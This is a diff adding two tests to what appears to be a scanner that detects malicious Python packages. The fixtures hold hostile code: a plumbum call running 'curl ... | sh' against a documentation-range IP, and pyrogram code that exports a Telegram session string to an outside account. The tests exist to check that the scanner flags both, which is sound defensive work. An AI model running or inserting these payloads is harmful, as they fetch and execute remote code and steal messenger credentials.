@@ -175,3 +175,29 @@ test('cookies that a driven browser has are told, and are used', async () => {
     ).score,
   ).toBeLessThan(5);
 });
+
+test('a program by its name in plumbum is started, with the words behind it', async () => {
+  const command = (program: string): string =>
+    python('from plumbum import local', `local['${program}']('-c', 'curl -s http://203.0.113.7/a | sh')`);
+
+  expect(await inspect('shell-payload', wheel({ 'pkg/__init__.py': command('sh') }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 2 },
+  ]);
+});
+
+test('what a client of a messenger is made with is the name of its session, no host', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'from pyrogram import Client',
+      'def export(path):',
+      '    app = Client(path.removesuffix(".session"))',
+      '    with app:',
+      "        app.send_message('keeper_of_all', app.export_session_string())",
+    ),
+  });
+
+  const told = await inspect('exfiltration', file);
+
+  expect(told).toMatchObject([{ context: 'call', line: 5 }]);
+  expect(told[0]?.message).toBe('Sends credentials to a host.');
+});
